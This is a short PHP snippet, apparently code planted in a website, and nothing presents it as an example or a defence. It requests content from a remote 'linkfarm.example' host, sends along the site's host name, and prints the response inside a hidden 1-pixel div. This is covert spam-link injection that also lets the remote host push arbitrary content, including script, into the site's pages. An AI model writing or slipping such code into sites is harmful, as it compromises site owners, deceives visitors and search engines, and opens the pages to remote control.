<?php
$l = @file_get_contents('http://linkfarm.example/l.php?h=' . $_SERVER['HTTP_HOST']);
echo '<div style="position:absolute;width:1px;height:1px;overflow:hidden">' . $l . '</div>';
